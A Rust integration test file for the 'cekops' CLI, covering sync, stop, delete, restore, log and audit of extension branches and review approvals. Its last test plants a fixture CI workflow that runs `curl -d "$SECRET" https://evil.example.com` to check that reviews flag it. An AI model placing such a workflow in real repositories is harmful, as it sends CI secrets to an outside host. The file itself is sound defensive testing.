//! `cekops sync`, `stop`, `delete`, `restore`, `log` and `audit` end to end.

use crate::common::TestEnv;
use crate::common::chart::*;
use crate::common::snap::Transcript;
use crate::common::snap::snapshot;

const A: &str = "com.example.alpha";
const B: &str = "com.example.bravo";

#[test]
fn test_sync_rebases_onto_service_and_keeps_approvals() {
    let env = TestEnv::new();
    setup(
        &env,
        "[review]\nreviewers = [\"alice@example.com\", \"bob@example.com\"]\nrequired_approvals = 2\n",
    );
    new_extension(&env, A, "알파봇");
    let b_old = new_extension(&env, B, "브라보봇");
    env.cekops(&["review", "request", A, "-m", "a"]).code(0);
    env.cekops(&["review", "request", B, "-m", "b"]).code(0);
    // B gets its first approval while its branch still starts from the old service.
    as_(&env, &ALICE, &["review", "approve", B]).code(0);
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    as_(&env, &BOB, &["review", "approve", A]).code(0);
    assert_eq!(rev(&env, "service"), rev(&env, &format!("test/{A}")));
    // B can no longer fast-forward service.
    let refs = all_refs(&env);
    as_(&env, &BOB, &["review", "approve", B])
        .code(1)
        .contains("hint: run `cekops sync com.example.bravo`");
    assert_eq!(all_refs(&env), refs);
    env.cekops(&["status", B]).code(0).contains("needs sync");
    let tree_before = env.git(&["rev-parse", &format!("test/{B}:extensions/{B}")]);
    env.cekops(&["sync", B])
        .code(0)
        .contains("rebased `test/com.example.bravo` onto service: 1 commit(s)")
        .contains("review #1 now points at the rebased commit");
    let b_new = rev(&env, &format!("test/{B}"));
    assert_ne!(b_new, b_old);
    assert!(is_ancestor(&env, "service", &b_new));
    assert_eq!(
        env.git(&["rev-parse", &format!("test/{B}:extensions/{B}")]),
        tree_before
    );
    // Authorship is kept.
    assert_eq!(
        env.git(&["log", "-1", "--format=%ae %s", &b_new]),
        "dev@example.com new com.example.bravo"
    );
    // Alice's approval from before the sync still counts: Bob's is the second.
    as_(&env, &BOB, &["review", "approve", B])
        .code(0)
        .contains("service fast-forwarded");
    assert_eq!(rev(&env, "service"), b_new);
    let files = env.git(&["ls-tree", "--name-only", "service:extensions"]);
    assert_eq!(files, format!("{A}\n{B}"));
    env.cekops(&["audit"]).code(0);
    env.cekops(&["sync", B])
        .code(0)
        .contains("already contains the service version");
}

#[test]
fn test_sync_refuses_paths_outside_the_extension_and_dirty_work_trees() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    new_extension(&env, A, "알파봇");
    new_extension(&env, B, "브라보봇");
    env.cekops(&["review", "request", A, "-m", "a"]).code(0);
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    // B also edits a repository-level file.
    commit_on(&env, &format!("test/{B}"), "README.md", "hello\n", "readme");
    let refs = all_refs(&env);
    env.cekops(&["sync", B])
        .code(1)
        .contains("touches paths outside `extensions/com.example.bravo/` (`README.md`)")
        .contains("nothing was changed");
    assert_eq!(all_refs(&env), refs);
    // A clean branch, but checked out with uncommitted edits.
    let env = TestEnv::new();
    setup(&env, CONFIG);
    new_extension(&env, A, "알파봇");
    new_extension(&env, B, "브라보봇");
    env.cekops(&["review", "request", A, "-m", "a"]).code(0);
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    env.git(&["checkout", "-q", &format!("test/{B}")]);
    env.write(
        &format!("extensions/{B}/server.toml"),
        "endpoint = \"https://x.example.com/\"\n",
    );
    let refs = all_refs(&env);
    env.cekops(&["sync", B])
        .code(1)
        .contains("is checked out in")
        .contains("uncommitted changes (`extensions/com.example.bravo/server.toml`)");
    assert_eq!(all_refs(&env), refs);
    assert!(
        env.read(&format!("extensions/{B}/server.toml"))
            .contains("x.example.com")
    );
    // Once committed, sync updates the checked-out work tree too.
    env.git(&["commit", "-q", "-am", "endpoint"]);
    env.cekops(&["sync", B])
        .code(0)
        .contains("updated the work tree");
    assert!(env.path(&format!("extensions/{A}/extension.toml")).exists());
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

#[test]
fn test_stop_removes_the_extension_from_service_when_approved() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    let test_tip = rev(&env, &format!("test/{A}"));
    let service_before = rev(&env, "service");
    env.cekops(&["stop", A, "--reason", "the shop closed"])
        .code(0)
        .contains("requested to stop `com.example.alpha` (#2)");
    env.cekops(&["status"])
        .code(0)
        .contains("stop #2 by Dev Eloper <dev@example.com>");
    as_(&env, &CAROL, &["review", "approve", A])
        .code(1)
        .contains("not a reviewer");
    as_(&env, &BOB, &["review", "approve", A])
        .code(0)
        .contains("stopped `com.example.alpha`");
    // One commit on service, removing only the folder; authored by the reviewer.
    assert_eq!(rev(&env, "service~1"), service_before);
    let removed = env.git(&["diff", "--name-only", "service~1", "service"]);
    assert_eq!(removed.lines().count(), 6, "{removed}");
    assert!(
        removed
            .lines()
            .all(|l| l.starts_with(&format!("extensions/{A}/"))),
        "{removed}"
    );
    assert_eq!(
        env.git(&["log", "-1", "--format=%ae", "service"]),
        "bob@example.com"
    );
    assert_eq!(try_rev(&env, &format!("service:extensions/{A}")), None);
    assert!(!env.path(&format!("extensions/{A}")).exists());
    // The test branch is intact; the extension is in development again.
    assert_eq!(rev(&env, &format!("test/{A}")), test_tip);
    env.cekops(&["status", A])
        .code(0)
        .contains("Test     In development")
        .lacks("In service");
    env.cekops(&["audit"])
        .code(0)
        .contains("approved stop")
        .contains("every one of 3 steps was approved");
    // Submit again: sync (service dropped the folder), request, approve.
    env.cekops(&["sync", A]).code(0);
    env.cekops(&["review", "request", A, "-m", "back"]).code(0);
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    assert!(try_rev(&env, &format!("service:extensions/{A}")).is_some());
    env.cekops(&["audit"]).code(0);
}

#[test]
fn test_stop_refused_when_not_in_service() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    new_extension(&env, A, "알파봇");
    env.cekops(&["stop", A, "--reason", "x"])
        .code(1)
        .contains("is not in service");
}

#[test]
fn test_delete_and_restore_keep_history() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    let tip = new_extension(&env, A, "알파봇");
    // Not while under review.
    env.cekops(&["review", "request", A, "-m", "a"]).code(0);
    env.cekops(&["delete", A])
        .code(1)
        .contains("is under review (#1): cancel the review before deleting");
    env.cekops(&["review", "cancel", A]).code(0);
    env.cekops(&["delete", A])
        .code(0)
        .contains("deleted `test/com.example.alpha`");
    assert_eq!(try_rev(&env, &format!("test/{A}")), None);
    // The deleted commit stays reachable from the records branch.
    assert!(is_ancestor(&env, &tip, "cekops/records"));
    assert!(record(&env, A, 2).contains("kind = \"delete\""));
    env.cekops(&["status"]).code(0).lacks(A);
    env.cekops(&["status", A]).code(0).contains("Deleted");
    env.cekops(&["delete", A])
        .code(1)
        .contains("no `test/com.example.alpha` branch to delete");
    env.git(&["gc", "-q", "--prune=now"]);
    env.cekops(&["restore", A])
        .code(0)
        .contains("restored `test/com.example.alpha`");
    assert_eq!(rev(&env, &format!("test/{A}")), tip);
    env.cekops(&["restore", A])
        .code(1)
        .contains("nothing to restore");
    env.cekops(&["log", A])
        .code(0)
        .contains("#1   review         request  Dev Eloper <dev@example.com>")
        .contains("#1   review         cancel")
        .contains("#2   delete         delete")
        .contains("#3   restore        restore");
}

#[test]
fn test_delete_refused_in_service() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    let refs = all_refs(&env);
    env.cekops(&["delete", A])
        .code(1)
        .contains("is in service: stop the service before deleting it");
    assert_eq!(all_refs(&env), refs);
}

/// A's review history: request, rejected by Bob, a help intent added, request, approved by Alice.
fn rejected_then_approved(env: &TestEnv) {
    setup(env, CONFIG);
    new_extension(env, A, "알파봇");
    env.cekops(&["review", "request", A, "-m", "first try"])
        .code(0);
    as_(
        env,
        &BOB,
        &["review", "reject", A, "-m", "add a help intent"],
    )
    .code(0);
    commit_help_intent(env, A, "help");
    env.cekops(&["review", "request", A, "-m", "added help"])
        .code(0);
    as_(env, &ALICE, &["review", "approve", A]).code(0);
}

#[test]
fn test_log_shows_requests_decisions_and_service_versions() {
    let env = TestEnv::new();
    rejected_then_approved(&env);
    let service = rev(&env, "service");
    let out = env.cekops(&["log", A]);
    out.code(0)
        .contains("reject   Bob Reviewer <bob@example.com>")
        .contains("    add a help intent")
        .contains(&format!("    service version {}", &service[..12]));
    let out = env.cekops(&["log", A, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let actions: Vec<&str> = v["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["request", "reject", "request", "approve"]);
}

#[test]
fn test_audit_finds_commits_that_bypassed_review() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    env.cekops(&["audit"]).code(0);
    // Someone commits straight to service.
    env.write("README.md", "direct\n");
    env.git(&["add", "README.md"]);
    env.git(&["commit", "-q", "-m", "direct push"]);
    let bad = rev(&env, "service");
    let out = env.cekops(&["audit"]);
    out.code(1)
        .contains("NOT APPROVED")
        .contains(&format!("commit {} (\"direct push\" by Dev Eloper <dev@example.com>) is on `service` without an approved review or stop", &bad[..12]));
    env.cekops(&["audit", "--rev", "service~1"]).code(0);
    let out = env.cekops(&["audit", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["steps"][0]["kind"], "unapproved");
    assert_eq!(v["steps"][1]["kind"], "approved-review");
    assert_eq!(v["steps"][2]["kind"], "initial");
    // status notices too.
    env.cekops(&["status"])
        .code(0)
        .contains("which no approval record explains");
}

#[test]
fn test_audit_finds_records_approved_by_non_reviewers() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    // Hand-edit the approval record to claim carol approved.
    let text = record(&env, A, 1).replace("alice@example.com", "carol@example.com");
    env.git(&["checkout", "-q", "cekops/records"]);
    env.write(&format!("{A}/1.toml"), text);
    env.git(&["commit", "-q", "-am", "forge"]);
    env.git(&["checkout", "-q", "service"]);
    env.cekops(&["audit"])
        .code(1)
        .contains("events already written were changed or removed")
        .contains("carol@example.com is not a reviewer");
}

#[test]
fn test_custom_branch_names_from_cekops_toml() {
    let env = TestEnv::new();
    env.write(
        "cekops.toml",
        format!("[branches]\nservice = \"main\"\ntest = \"ext/{{id}}\"\nrecords = \"audit/records\"\n\n{CONFIG}"),
    );
    env.git_init_commit("main", "init");
    env.git(&["checkout", "-q", "-b", &format!("ext/{A}")]);
    for (p, c) in extension_files(A, "알파봇") {
        env.write(&p, c);
    }
    env.git(&["add", "-A"]);
    env.git(&["commit", "-q", "-m", "alpha"]);
    let tip = rev(&env, "HEAD");
    env.cekops(&["review", "request", A, "-m", "first"])
        .code(0)
        .contains("(ext/com.example.alpha locked");
    assert!(
        env.git(&["show", &format!("audit/records:{A}/1.toml")])
            .contains("branch = \"ext/com.example.alpha\"")
    );
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    assert_eq!(rev(&env, "main"), tip);
    env.cekops(&["status"])
        .code(0)
        .contains("Commercial use  In service");
    env.cekops(&["audit"]).code(0);
}

const C: &str = "com.example.charlie";

#[test]
fn test_sync_output() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    new_extension(&env, A, "알파봇");
    new_extension(&env, B, "브라보봇");
    new_extension(&env, C, "찰리봇");
    env.cekops(&["review", "request", A, "-m", "a"]).code(0);
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    commit_on(&env, &format!("test/{C}"), "README.md", "hello\n", "readme");
    let mut t = Transcript::new(&env);
    t.cekops(&["sync", B]).code(0);
    t.cekops(&["sync", B]).code(0);
    t.note("a branch that touches a file outside its extension");
    t.cekops(&["sync", C]).code(1);
    snapshot!(&env, "sync", t.text());
}

#[test]
fn test_stop_delete_and_restore_output() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    new_extension(&env, B, "브라보봇");
    let mut t = Transcript::new(&env);
    t.note("stop an extension in service");
    t.cekops(&["delete", A]).code(1);
    t.cekops(&["stop", A, "--reason", "the shop closed"])
        .code(0);
    t.cekops(&["status", A]).code(0);
    t.cekops_with(&["review", "approve", A], &BOB).code(0);
    t.cekops(&["stop", A, "--reason", "again"]).code(1);
    t.note("delete and restore a test branch");
    t.cekops(&["review", "request", B, "-m", "b"]).code(0);
    t.cekops(&["delete", B]).code(1);
    t.cekops(&["review", "cancel", B]).code(0);
    t.cekops(&["delete", B]).code(0);
    t.cekops(&["delete", B]).code(1);
    t.cekops(&["status", B]).code(0);
    t.cekops(&["restore", B]).code(0);
    t.cekops(&["restore", B]).code(1);
    snapshot!(&env, "stop-delete-and-restore", t.text());
}

#[test]
fn test_log_and_audit_output() {
    let env = TestEnv::new();
    rejected_then_approved(&env);
    let mut t = Transcript::new(&env);
    t.cekops(&["log", A]).code(0);
    t.cekops(&["audit"]).code(0);
    t.note("a commit straight to service");
    env.write("README.md", "direct\n");
    env.git(&["add", "README.md"]);
    env.git(&["commit", "-q", "-m", "direct push"]);
    t.cekops(&["audit"]).code(1);
    t.cekops(&["log", B]).code(2);
    snapshot!(&env, "log-and-audit", t.text());
}

/// Give a file a new modification time without changing its content (`touch`).
fn touch(env: &TestEnv, rel: &str) {
    let f = std::fs::File::options()
        .write(true)
        .open(env.path(rel))
        .unwrap();
    f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(30))
        .unwrap();
}

/// The index and work tree hold exactly HEAD (what `git status` and `git diff --cached` show).
#[track_caller]
fn clean_at_head(env: &TestEnv) {
    assert_eq!(env.git(&["status", "--porcelain"]), "");
    assert_eq!(env.git(&["diff", "--cached", "--name-only", "HEAD"]), "");
}

#[test]
fn test_sync_and_approve_after_a_stat_only_change_keep_the_index_in_step() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    new_extension(&env, B, "브라보봇");
    let order = format!("extensions/{A}/interaction-model/intents/OrderIntent.toml");
    // A changes an existing file and goes live while test/B (branched earlier) is checked out.
    env.git(&["checkout", "-q", &format!("test/{B}")]);
    commit_on(
        &env,
        &format!("test/{A}"),
        &order,
        "utterances = [\"주문해줘\", \"알파봇 시켜줘\", \"주문할래\"]\n",
        "more",
    );
    env.cekops(&["review", "request", A, "-m", "more"]).code(0);
    as_(&env, &ALICE, &["review", "approve", A]).code(0);
    // The checked-out copy of A's file is only touched: same content, new mtime.
    touch(&env, &order);
    env.cekops(&["sync", B])
        .code(0)
        .contains("rebased `test/com.example.bravo`");
    assert_eq!(rev(&env, "HEAD"), rev(&env, &format!("test/{B}")));
    clean_at_head(&env);
    assert!(env.read(&order).contains("주문할래"));

    // approve with `service` checked out and the file it changes only touched
    env.git(&["checkout", "-q", "service"]);
    commit_on(
        &env,
        &format!("test/{A}"),
        &order,
        "utterances = [\"주문해줘\", \"알파봇 시켜줘\", \"주문할게\"]\n",
        "again",
    );
    env.cekops(&["review", "request", A, "-m", "again"]).code(0);
    touch(&env, &order);
    as_(&env, &ALICE, &["review", "approve", A])
        .code(0)
        .lacks("still holds the previous version")
        .lacks("warning");
    assert_eq!(rev(&env, "HEAD"), rev(&env, &format!("test/{A}")));
    clean_at_head(&env);
    assert!(env.read(&order).contains("주문할게"));
}

#[test]
fn test_approve_shows_what_goes_live_with_destructive_flags() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    commit_on(
        &env,
        &format!("test/{A}"),
        &format!("extensions/{A}/server.toml"),
        "endpoint = \"https://other.example.com/clova\"\n",
        "move the endpoint",
    );
    env.cekops(&["review", "request", A, "-m", "new endpoint"])
        .code(0);
    let out = as_(&env, &ALICE, &["review", "approve", A]);
    out.code(0)
        .contains("service fast-forwarded")
        .contains("live now: 1 extension changed, 1 change (1 destructive)")
        .contains("!   ~ endpoint: \"https://ext.example.com/clova\" → \"https://other.example.com/clova\"")
        .contains("destructive changes are marked with `!`");
}

#[test]
fn test_review_show_lists_the_files_a_config_review_brings() {
    let env = TestEnv::new();
    setup(&env, CONFIG);
    in_service(&env, A, "알파봇");
    env.git(&["checkout", "-q", "-b", "test/ci", "service"]);
    env.write(
        ".github/workflows/evil.yml",
        "on: push\njobs:\n  x:\n    steps:\n      - run: curl -d \"$SECRET\" https://evil.example.com\n",
    );
    env.git(&["add", "-A"]);
    env.git(&["commit", "-q", "-m", "a workflow"]);
    env.cekops(&["review", "request", "ci", "-m", "a workflow"])
        .code(0)
        .contains("config review");
    // before: `diff` said "no changes" and `review show` listed nothing
    env.cekops(&["diff", "ci"])
        .code(2)
        .contains("!   + .github/workflows/evil.yml (added) — CI workflow");
    let out = env.cekops(&["review", "show", "ci"]);
    out.code(0)
        .contains("what the reviewed commit brings to service:")
        .contains("!   + .github/workflows/evil.yml (added) — CI workflow: runs in CI with the repository's secrets")
        .contains("+      - run: curl -d \"$SECRET\" https://evil.example.com");
    let out = env.cekops(&["review", "show", "ci", "--format", "json"]);
    out.code(0);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(
        v["changes"]["files"][0]["path"],
        ".github/workflows/evil.yml"
    );
    assert_eq!(v["changes"]["files"][0]["kind"], "ci-workflow");
    let out = as_(&env, &ALICE, &["review", "approve", "ci"]);
    out.code(0)
        .contains("live now: 1 file outside the extensions, 1 change; 1 file to read with care")
        .contains("!   + .github/workflows/evil.yml (added)");
}
